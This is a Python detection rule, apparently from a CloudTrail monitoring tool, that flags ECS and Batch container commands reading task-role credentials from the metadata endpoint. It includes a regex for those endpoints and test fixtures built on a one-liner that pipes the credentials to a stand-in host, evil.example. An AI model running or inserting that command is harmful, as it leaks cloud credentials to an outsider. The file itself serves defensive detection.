"""Container's command reads the credentials of its task's role.

Programs get the role's credentials from their SDK. A command line that reads them from their
address takes them out of the container. With them, an attacker is the role, from anywhere.
"""

import re
from collections.abc import Iterator
from typing import Any

from trailwarden import ATTEMPTED, NOBODY, Event, Match, Outcome, Rule, Severity, Tactic
from trailwarden.cloudtrail.samples import Fields, request
from trailwarden.cloudtrail.values import dig, listed, text_of
from trailwarden.examples import Examples, Record, alerts, silent

ENDPOINT = re.compile(
    r"169\.254\.170\.2(?!\d)(?!/v\d/(?:metadata|stats|task))"
    r"|AWS_CONTAINER_CREDENTIALS_(?:RELATIVE|FULL)_URI"
    r"|169\.254\.169\.254/latest/meta-data/iam|169\.254\.170\.23"
)
CONTAINERS = (
    "containerDefinitions",
    "containerOverrides",
    "containerProperties",
    "overrides.containerOverrides",
)
COMMANDS = ("command", "entryPoint", "healthCheck.command")


def detect(event: Event) -> Match | None:
    if not ENDPOINT.search(" ".join(words_of(event))):
        return None
    thing = event.request("family", "taskDefinition", "jobDefinitionName", "jobName")
    severity = None if event.outcome is Outcome.SUCCEEDED else Severity.MEDIUM
    return Match(f"{event.name} {thing}", severity, thing)


def words_of(event: Event) -> Iterator[str]:
    """Yield the words of every command in the request, of definitions and of overrides."""
    for container in (c for path in CONTAINERS for c in event.listed(f"requestParameters.{path}")):
        yield from (text_of(w) for path in COMMANDS for w in listed(dig(container, path)))


RULE = Rule(
    __name__,
    __doc__,
    detect,
    events=[
        "batch:RegisterJobDefinition",
        "batch:SubmitJob",
        "ecs:RegisterTaskDefinition",
        "ecs:RunTask",
        "ecs:StartTask",
    ],
    exempt=NOBODY,
    outcome=ATTEMPTED,
    severity=Severity.HIGH,
    attack={Tactic.CREDENTIAL_ACCESS: ["T1552.005"], Tactic.PERSISTENCE: ["T1525"]},
    response="Stop the tasks of this definition and revoke the sessions of its task role. Disable "
    "the credentials that registered it, and look for use of the role from outside.",
    false_positives="Start scripts that fetch credentials by themselves for an old program.",
)

STEAL = "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- evil.example"


def examples() -> Examples:
    theft = defined(STEAL)
    yield alerts("in a definition", theft, severity=Severity.HIGH, subject="app")
    failed = defined(STEAL, fields={"errorCode": "ClientException"})
    yield alerts("an attempt that fails", failed, severity=Severity.MEDIUM)
    overrides: Fields = {"containerOverrides": [{"name": "app", "command": ["sh", "-c", STEAL]}]}
    start: Fields = {"taskDefinition": "app:1", "overrides": overrides}
    yield alerts("at the start", request("ecs:RunTask", **start), subject="app:1")
    placed = request("ecs:StartTask", containerInstances=["c"], **start)
    yield alerts("at the start on an instance", placed)
    command = {"command": ["sh", "-c", STEAL]}
    job: Fields = {"jobDefinitionName": "j", "type": "container", "containerProperties": command}
    yield alerts("in a job", request("batch:RegisterJobDefinition", **job), subject="j")
    submitted: Fields = {"jobName": "n", "jobQueue": "q", "jobDefinition": "j"}
    batch = request("batch:SubmitJob", **submitted, containerOverrides=command)
    yield alerts("at the start of a job", batch, subject="n")
    yield silent("only metadata", defined("curl 169.254.170.2/v2/metadata; exec app"))
    proxy = [{"name": "NO_PROXY", "value": "169.254.170.2"}]
    yield silent("a proxy exception", defined("exec app", environment=proxy))


def defined(script: str, *, fields: Fields | None = None, **settings: Any) -> Record:
    container: Fields = {"name": "app", "image": "app", "entryPoint": ["sh", "-c"]}
    containers = [container | {"command": [script]} | settings]
    task: Fields = {"family": "app", "containerDefinitions": containers}
    return request("ecs:RegisterTaskDefinition", fields=fields, **task)
